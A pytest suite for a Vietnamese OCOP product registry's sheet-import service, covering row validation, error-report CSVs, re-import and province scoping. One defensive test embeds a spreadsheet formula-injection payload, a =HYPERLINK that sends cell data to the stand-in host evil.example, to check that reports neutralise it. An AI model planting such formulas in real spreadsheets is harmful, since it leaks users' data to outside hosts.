"""Sheet imports against PostgreSQL: forgiving rows, a per-row error report, no partial rows,
re-import without duplicates, province scope. The job runs through the same function the
worker's task calls (`run_import`); test_worker.py runs it through a real worker."""

from __future__ import annotations

import csv
import io

from openpyxl import Workbook
from sqlalchemy import func, select

from ocop_registry.imports.models import ImportJob
from ocop_registry.imports.service import run_import
from ocop_registry.producers.models import Producer
from ocop_registry.products.models import Product

from .conftest import HA_NOI, NINH_BINH

HEADERS = [
    "Tên chủ thể",
    "Loại hình chủ thể",
    "Địa chỉ",
    "Tên sản phẩm",
    "Nhóm sản phẩm",
    "Số sao",
    "Số quyết định",
    "Ngày quyết định",
    "Chứng nhận chất lượng",
    "Kênh bán hàng",
]
HAI_DONG = "Xã Hải Đông, Huyện Hải Hậu, Tỉnh Nam Định"
GOOD_ROWS = [
    [
        "HTX Hải Đông",
        "Hợp tác xã",
        HAI_DONG,
        "Gạo tám Hải Hậu",
        "Thực phẩm",
        "4",
        "12/QĐ-UBND",
        "15/03/2025",
        "VietGAP",
        "Shopee; Postmart",
    ],
    [
        "HTX Hải Đông",
        "hop tac xa",
        "xa hai dong, huyen hai hau, tinh nam dinh",
        "Nếp cái hoa vàng",
        "thuc_pham.nong_san_tuoi_song",
        "3",
        "13/QĐ-UBND",
        "2024-06-01",
        "",
        "",
    ],
    [
        "Công ty TNHH Giao Châu",
        "Doanh nghiệp",
        "Xã Giao Thịnh, Huyện Giao Thủy, Tỉnh Nam Định",
        "Nước mắm Giao Châu",
        "Thực phẩm",
        "",
        "",
        "",
        "HACCP, ISO 22000",
        "tiki",
    ],
]
BAD_ROWS = [
    [
        "HTX Ma",
        "Hợp tác xã",
        "Xã Không Có, Huyện Hải Hậu, Tỉnh Nam Định",
        "Sản phẩm ma",
        "Thực phẩm",
        "4",
        "1/QĐ",
        "15/03/2025",
        "",
        "",
    ],
    [
        "HTX Hải Đông",
        "Hợp tác xã",
        HAI_DONG,
        "Rượu nếp",
        "Đồ điện tử",
        "7",
        "",
        "31/02/2025",
        "",
        "Amazon",
    ],
]


def sheet_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADERS)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def import_sheet(registry, content: bytes, headers=None, name: str = "ds-ocop.csv") -> dict:
    response = registry.client.post(
        "/v1/imports",
        files={"file": (name, content, "text/csv")},
        headers=headers or registry.officer(),
    )
    assert response.status_code == 202, response.text
    job = response.json()
    assert job["status"] == "queued"
    assert run_import(registry.db, job["id"]) == "done"
    return registry.client.get(
        f"/v1/imports/{job['id']}", headers=headers or registry.officer()
    ).json()


def counts(registry) -> tuple[int, int]:
    with registry.db.session() as session:
        return (
            session.scalar(select(func.count()).select_from(Producer)),
            session.scalar(select(func.count()).select_from(Product)),
        )


def test_bad_rows_are_reported_and_skipped_good_rows_kept(registry):
    job = import_sheet(registry, sheet_csv(GOOD_ROWS[:1] + BAD_ROWS + GOOD_ROWS[1:]))
    assert job["status"] == "done"
    assert job["rows_total"] == 5 and job["rows_imported"] == 3
    reported = {(e["row"], e["field"]) for e in job["errors"]}
    assert reported == {
        (3, "address"),
        (4, "group"),
        (4, "stars"),
        (4, "recognised_on"),
        (4, "channels"),
    }
    assert all(e["message"] and e["message_en"] for e in job["errors"])
    # No partial rows: the bad rows' producer and product do not exist.
    assert counts(registry) == (2, 3)
    products = registry.client.get(
        f"/v1/products?province_code={NINH_BINH}", headers=registry.officer()
    ).json()["items"]
    by_name = {p["name"]: p for p in products}
    assert set(by_name) == {"Gạo tám Hải Hậu", "Nếp cái hoa vàng", "Nước mắm Giao Châu"}
    rice = by_name["Gạo tám Hải Hậu"]
    assert rice["certificate"]["stars"] == 4 and rice["certificate"]["level"] == "provincial"
    assert rice["channels"] == ["shopee", "postmart"]
    assert rice["address"]["legacy_district"] == "Huyện Hải Hậu"
    assert by_name["Nếp cái hoa vàng"]["certificate"]["level"] == "district"
    assert by_name["Nước mắm Giao Châu"]["certificate"] is None
    assert [c["scheme"] for c in by_name["Nước mắm Giao Châu"]["certifications"]] == [
        "HACCP",
        "ISO 22000",
    ]
    report = registry.client.get(f"/v1/imports/{job['id']}/errors.csv", headers=registry.officer())
    assert report.status_code == 200
    lines = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
    assert lines[0][:4] == ["Dòng gốc", "Tên chủ thể", "Loại hình chủ thể", "Địa chỉ"]
    assert [line[0] for line in lines[1:]] == ["3", "4"]
    assert "Đồ điện tử" in lines[2] and "Nhóm sản phẩm:" in lines[2][-1]


def test_import_hands_back_the_objects_it_froze_for_the_garbage_collector(registry):
    import gc

    job = import_sheet(registry, sheet_csv(GOOD_ROWS))
    assert job["rows_imported"] == len(GOOD_ROWS)
    assert gc.get_freeze_count() == 0


def test_error_report_fixed_in_place_imports_again(registry):
    job = import_sheet(registry, sheet_csv(GOOD_ROWS + BAD_ROWS))
    report = registry.client.get(f"/v1/imports/{job['id']}/errors.csv", headers=registry.officer())
    rows = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
    header = rows[0]
    assert [row[0] for row in rows[1:]] == ["5", "6"]
    fixes = {
        "Địa chỉ": {"5": "Xã Hải Toàn, Huyện Hải Hậu, Tỉnh Nam Định"},
        "Nhóm sản phẩm": {"6": "Đồ uống"},
        "Số sao": {"6": "4"},
        "Ngày quyết định": {"6": "28/02/2025"},
        "Kênh bán hàng": {"6": "Lazada"},
    }
    for row in rows[1:]:
        for column, by_row in fixes.items():
            if row[0] in by_row:
                row[header.index(column)] = by_row[row[0]]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    again = import_sheet(registry, out.getvalue().encode("utf-8-sig"))
    assert again["errors"] == [] and again["rows_imported"] == 2
    assert counts(registry) == (3, 5)


def test_fixed_sheet_reimported_adds_only_the_fixed_rows(registry):
    import_sheet(registry, sheet_csv(GOOD_ROWS + BAD_ROWS))
    events_before = len(registry.events())
    fixed = [
        [*BAD_ROWS[0][:2], "Xã Hải Toàn, Huyện Hải Hậu, Tỉnh Nam Định", *BAD_ROWS[0][3:]],
        [*BAD_ROWS[1][:4], "Đồ uống", "4", "", "15/02/2025", "", "Lazada"],
    ]
    job = import_sheet(registry, sheet_csv(GOOD_ROWS + fixed))
    assert job["errors"] == [] and job["rows_imported"] == 5
    assert counts(registry) == (3, 5)
    # Unchanged rows publish nothing again; each fixed row one certificate.issued.
    new_events = registry.events()[events_before:]
    assert [e["type"] for e in new_events] == ["certificate.issued", "certificate.issued"]
    again = import_sheet(registry, sheet_csv(GOOD_ROWS + fixed))
    assert again["errors"] == [] and counts(registry) == (3, 5)
    assert len(registry.events()) == events_before + 2


def test_officer_import_rejects_rows_of_another_province(registry):
    rows = [
        *GOOD_ROWS[:1],
        [
            "HTX Bát Tràng",
            "Hợp tác xã",
            "Xã Bát Tràng, Huyện Gia Lâm, Thành phố Hà Nội",
            "Bình gốm",
            "Hàng thủ công mỹ nghệ",
            "",
            "",
            "",
            "",
            "",
        ],
    ]
    job = import_sheet(registry, sheet_csv(rows))
    assert [(e["row"], e["field"]) for e in job["errors"]] == [(3, "address")]
    assert counts(registry) == (1, 1)
    other = registry.client.get(f"/v1/imports/{job['id']}", headers=registry.officer(HA_NOI))
    assert other.status_code == 403


def test_xlsx_sheet_imports_like_csv(registry):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADERS)
    for row in GOOD_ROWS:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    job = import_sheet(registry, out.getvalue(), name="ds-ocop.xlsx")
    assert job["rows_imported"] == 3 and job["errors"] == []


def test_sheet_without_required_columns_is_refused_at_once(registry):
    response = registry.client.post(
        "/v1/imports",
        files={"file": ("x.csv", b"ten,gia\nA,1\n", "text/csv")},
        headers=registry.officer(),
    )
    assert response.status_code == 422
    assert "producer_name" in response.json()["detail_en"]


def test_only_officers_and_admins_import(registry):
    producer = registry.producer()
    response = registry.client.post(
        "/v1/imports",
        files={"file": ("x.csv", sheet_csv(GOOD_ROWS), "text/csv")},
        headers=registry.headers("producer", producer_id=producer["id"]),
    )
    assert response.status_code == 403


def test_row_refused_by_the_database_costs_only_itself(registry):
    from dataclasses import replace

    from ocop_registry.imports.models import ImportJob
    from ocop_registry.imports.service import JobMemory, _write_chunk
    from ocop_registry.imports.sheet import check_row

    good = [
        check_row(
            n,
            dict(
                zip(
                    ["producer_name", "producer_kind", "address", "product_name", "group"],
                    [f"HTX {n}", "htx", HAI_DONG, f"Gạo {n}", "Thực phẩm"],
                    strict=True,
                )
            ),
        )
        for n in (2, 3, 4)
    ]
    # Checks normally stop this; here it stands for any row the database refuses.
    too_long = replace(good[1], product_name="x" * 400)
    with registry.db.session() as session:
        job = ImportJob(filename="x.csv", content=b"", actor="t")
        session.add(job)
        session.flush()
        job_id = job.id
    rows = [good[0], too_long, good[2]]
    written, failed, _ = _write_chunk(registry.db, job_id, rows, "t", JobMemory(), 3, 0)
    assert written == 2 and [(e.row, e.field) for e in failed] == [(3, "row")]
    assert counts(registry) == (2, 2)
    with registry.db.session() as session:
        assert session.get(ImportJob, job_id).rows_imported == 2


def test_overlong_cell_is_a_row_error():
    from ocop_registry.imports.sheet import check_row

    errors = check_row(
        9,
        {
            "producer_name": "HTX",
            "producer_kind": "htx",
            "address": HAI_DONG,
            "product_name": "G" * 301,
            "group": "Thực phẩm",
        },
    )
    assert [(e.row, e.field) for e in errors] == [(9, "product_name")]


def test_old_sheet_imported_again_does_not_undo_a_later_evaluation(registry):
    from datetime import timedelta

    from ocop_contracts import EvaluationDecided
    from ocop_kit.consumer import consume
    from ocop_kit.dates import today_local
    from ocop_registry.consumers import handlers

    import_sheet(registry, sheet_csv(GOOD_ROWS[:1]))
    [rice] = registry.client.get("/v1/products").json()["items"]
    assert rice["certificate"]["stars"] == 4
    consume(
        registry.db,
        EvaluationDecided(
            aggregate_id="application-9",
            version=1,
            payload={
                "session_id": "s",
                "application_id": "application-9",
                "product_id": rice["id"],
                "level": "central",
                "province_code": NINH_BINH,
                "criteria_set": "148/2023",
                "total": 92.0,
                "stars": 5,
                "outcome": "recognised",
                "decision_no": "9/QĐ-BNNMT",
                "decided_on": (today_local() - timedelta(days=3)).isoformat(),
            },
        ),
        handlers,
    )
    import_sheet(registry, sheet_csv(GOOD_ROWS[:1]))
    certificate = registry.client.get(f"/v1/products/{rice['id']}").json()["certificate"]
    assert (certificate["stars"], certificate["level"]) == (5, "central")


def test_job_given_up_is_failed_with_the_reason(registry):
    from ocop_registry.imports.service import mark_failed

    response = registry.client.post(
        "/v1/imports",
        files={"file": ("a.csv", sheet_csv(GOOD_ROWS), "text/csv")},
        headers=registry.officer(),
    )
    job_id = response.json()["id"]
    mark_failed(registry.db, job_id, RuntimeError("database unreachable"))
    job = registry.client.get(f"/v1/imports/{job_id}", headers=registry.officer()).json()
    assert job["status"] == "failed" and "database unreachable" in job["failure"]
    assert job["errors"][0]["field"] == "file"


def products_by_name(registry) -> dict[str, dict]:
    items = registry.client.get(
        f"/v1/products?province_code={NINH_BINH}", headers=registry.officer()
    ).json()["items"]
    return {p["name"]: p for p in items}


def product_history(registry, product_id: str) -> list[dict]:
    response = registry.client.get(f"/v1/products/{product_id}/history", headers=registry.officer())
    assert response.status_code == 200, response.text
    return response.json()


def test_imported_rows_have_history_and_events_with_the_full_snapshot(registry):
    import_sheet(registry, sheet_csv(GOOD_ROWS))
    by_name = products_by_name(registry)
    rice, fish_sauce = by_name["Gạo tám Hải Hậu"], by_name["Nước mắm Giao Châu"]

    history = product_history(registry, rice["id"])
    assert [h["action"] for h in history] == ["imported", "issued"]
    assert history[0]["before"] is None and history[0]["after"]["name"] == "Gạo tám Hải Hậu"
    assert history[1]["after"]["stars"] == 4 and history[1]["after"]["source"] == "import"
    producer_history = registry.client.get(
        f"/v1/producers/{rice['producer']['id']}/history", headers=registry.officer()
    ).json()
    assert [h["action"] for h in producer_history] == ["imported"]

    [issued] = registry.events(rice["id"])
    assert (issued["type"], issued["version"]) == ("certificate.issued", 1)
    snapshot = issued["payload"]
    assert snapshot["certificate"]["stars"] == 4 and snapshot["certificate"]["status"] == "valid"
    assert snapshot["channels"] == ["shopee", "postmart"]
    assert snapshot["producer"]["name"] == "HTX Hải Đông"
    assert snapshot["address"]["legacy_district"] == "Huyện Hải Hậu"
    [changed] = registry.events(fish_sauce["id"])
    assert (changed["type"], changed["version"]) == ("product.changed", 1)
    assert changed["payload"]["certificate"] is None
    assert [c["scheme"] for c in changed["payload"]["certifications"]] == ["HACCP", "ISO 22000"]


def test_newer_sheet_replaces_the_certificate_and_records_what_changed(registry):
    import_sheet(registry, sheet_csv(GOOD_ROWS[:1]))
    renewed = [*GOOD_ROWS[0][:6], "40/QĐ-UBND", "01/09/2025", "VietGAP", "Lazada"]
    import_sheet(registry, sheet_csv([renewed]))
    rice = products_by_name(registry)["Gạo tám Hải Hậu"]
    assert rice["certificate"]["decision_no"] == "40/QĐ-UBND"
    assert rice["channels"] == ["lazada"]

    history = product_history(registry, rice["id"])
    assert [h["action"] for h in history] == [
        "imported",
        "issued",
        "imported",
        "replaced",
        "issued",
    ]
    assert history[2]["before"]["channels"] == ["shopee", "postmart"]
    assert history[2]["after"]["channels"] == ["lazada"]
    assert history[3]["after"]["current"] is False
    events = registry.events(rice["id"])
    assert [(e["type"], e["version"]) for e in events] == [
        ("certificate.issued", 1),
        ("certificate.issued", 2),
    ]
    assert events[1]["payload"]["certificate"]["decision_no"] == "40/QĐ-UBND"
    assert events[1]["payload"]["channels"] == ["lazada"]


def test_product_twice_in_one_sheet_gets_both_certificates_in_order(registry):
    first = GOOD_ROWS[1]
    later = [*first[:5], "4", "20/QĐ-UBND", "10/01/2025", "", "Voso"]
    job = import_sheet(registry, sheet_csv([first, later]))
    assert job["errors"] == [] and job["rows_imported"] == 2
    assert counts(registry) == (1, 1)
    rice = products_by_name(registry)["Nếp cái hoa vàng"]
    assert (rice["certificate"]["stars"], rice["certificate"]["decision_no"]) == (4, "20/QĐ-UBND")
    history = product_history(registry, rice["id"])
    assert [h["action"] for h in history] == [
        "imported",
        "issued",
        "imported",
        "replaced",
        "issued",
    ]
    events = registry.events(rice["id"])
    assert [(e["type"], e["version"]) for e in events] == [
        ("certificate.issued", 1),
        ("certificate.issued", 2),
    ]
    assert [e["payload"]["certificate"]["stars"] for e in events] == [3, 4]


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_error_report_cells_cannot_carry_formulas_and_read_back_as_written(registry):
    hostile = [
        "HTX Hải Đông",
        "Hợp tác xã",
        "-2+3",  # not an address: the row is refused and reported
        HOSTILE_NAME,
        "Thực phẩm",
        "4",
        "@SUM(A1:A9)",
        "15/03/2025",
        "",
        "",
    ]
    job = import_sheet(registry, sheet_csv([hostile]))
    assert [(e["row"], e["field"]) for e in job["errors"]] == [(2, "address")]
    report = registry.client.get(f"/v1/imports/{job['id']}/errors.csv", headers=registry.officer())
    rows = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["Tên sản phẩm"] == "'" + HOSTILE_NAME
    assert cells["Địa chỉ"] == "'-2+3" and cells["Số quyết định"] == "'@SUM(A1:A9)"
    # The office fixes the address in the report and imports it again: the quotes the report
    # added are not kept.
    rows[1][rows[0].index("Địa chỉ")] = HAI_DONG
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    again = import_sheet(registry, out.getvalue().encode("utf-8-sig"))
    assert again["errors"] == [] and again["rows_imported"] == 1
    products = registry.client.get("/v1/products", headers=registry.officer()).json()["items"]
    assert [p["name"] for p in products] == [HOSTILE_NAME]
    assert products[0]["certificate"]["decision_no"] == "@SUM(A1:A9)"


def test_row_with_control_bidi_or_invisible_text_is_reported_and_skipped(registry):
    def row(producer: str, product: str) -> list[str]:
        return [producer, "Hợp tác xã", HAI_DONG, product, "Thực phẩm", "", "", "", "", ""]

    rows = [
        row("HTX Hải Đông", "Mật ong\x07\x1b"),
        row("HTX Hải\u202e Đông", "Mật ong bạc hà"),
        row("\u200b\u200b", "Mật ong rừng"),
        row("HTX Hải Đông", "..."),
        row("  HTX   Hải\u00a0Đông ", "  Gạo   tám  "),
    ]
    job = import_sheet(registry, sheet_csv(rows))
    assert [(e["row"], e["field"]) for e in job["errors"]] == [
        (2, "product_name"),
        (3, "producer_name"),
        (4, "producer_name"),
        (5, "product_name"),
    ]
    assert "U+0007" in job["errors"][0]["message"] and "U+202E" in job["errors"][1]["message_en"]
    assert job["rows_imported"] == 1
    products = registry.client.get("/v1/products", headers=registry.officer()).json()["items"]
    assert [(p["name"], p["producer"]["name"]) for p in products] == [("Gạo tám", "HTX Hải Đông")]
    # What could not be stored is left out of the report, not the row.
    report = registry.client.get(f"/v1/imports/{job['id']}/errors.csv", headers=registry.officer())
    lines = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
    assert [line[0] for line in lines[1:]] == ["2", "3", "4", "5"]
    assert lines[1][lines[0].index("Tên sản phẩm")] == "Mật ong"


def test_decision_date_outside_the_programme_years_is_a_row_error(registry):
    def row(day: str) -> list[str]:
        return [
            "HTX Hải Đông", "Hợp tác xã", HAI_DONG, f"Gạo {day}", "Thực phẩm", "4", "", day, "", "",
        ]  # fmt: skip

    job = import_sheet(
        registry, sheet_csv([row("31/12/9999"), row("01/01/0001"), row("2017-06-01")])
    )
    assert [(e["row"], e["field"]) for e in job["errors"]] == [
        (2, "recognised_on"),
        (3, "recognised_on"),
        (4, "recognised_on"),
    ]
    assert "2018" in job["errors"][0]["message"]
    assert counts(registry) == (0, 0)


def test_an_upload_that_is_no_sheet_is_refused_at_once_and_nothing_is_queued(registry):
    elf = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4
    huge_cell = sheet_csv([["HTX A", "Hộ kinh doanh", HAI_DONG, "x" * (5 * 1024 * 1024), "x"]])
    for name, content in (
        ("ds.csv", elf),
        ("ds.csv", huge_cell),
        ("ds\u202evsc.xlsx", sheet_csv([])),
    ):
        response = registry.client.post(
            "/v1/imports", files={"file": (name, content, "text/csv")}, headers=registry.officer()
        )
        assert response.status_code == 422, response.text
        assert response.json()["errors"][0]["field"] == "file"
    with registry.db.session() as session:
        assert session.scalar(select(func.count()).select_from(ImportJob)) == 0
